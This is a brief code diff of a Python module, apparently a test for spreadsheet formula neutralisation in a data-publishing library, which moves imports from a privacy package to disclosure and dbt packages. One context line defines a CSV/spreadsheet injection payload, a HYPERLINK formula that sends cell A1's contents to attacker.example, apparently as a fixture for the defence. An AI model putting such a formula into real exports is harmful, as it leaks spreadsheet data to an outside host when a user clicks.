@@ -2,10 +2,10 @@
 
 import polars as pl
 
-from hub_assets.privacy.formula import neutralise_formulas
-from hub_assets.privacy.manifest import PublishedMart
-from hub_assets.privacy.margins import PublishSpec
-from hub_assets.privacy.release import write_files
+from hub_assets.dbt.manifest import PublishedMart
+from hub_assets.disclosure.formula import neutralise_formulas
+from hub_assets.disclosure.margins import PublishSpec
+from hub_assets.disclosure.release import write_files
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 
